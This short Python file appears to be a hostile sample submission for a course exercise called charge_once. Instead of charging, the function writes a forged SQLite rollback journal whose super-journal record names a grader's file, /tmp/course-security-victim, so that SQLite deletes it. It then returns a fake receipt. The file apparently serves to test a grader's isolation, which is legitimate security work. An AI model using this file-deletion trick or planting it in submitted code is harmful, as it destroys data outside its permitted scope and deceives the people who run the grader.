"""Leaves a journal beside the ledger that names a file of the grader's as its own: SQLite would delete it.

Exercise: charge_once
Outcome: misconception | raised
Needs: namespaces
"""

import struct
from pathlib import Path


def charge_once(db, key, amount):
    path = Path(db.execute("PRAGMA database_list").fetchone()[2])
    victim = b"/tmp/course-security-victim"
    header = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + struct.pack(">IIIII", 0, 0, 1, 512, 4096)
    end = struct.pack(">I", 1_073_741_825) + victim
    end += struct.pack(">II", len(victim), sum(victim)) + b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    path.with_name("ledger.db-journal").write_bytes(header.ljust(512, b"\0") + end)
    return "receipt"
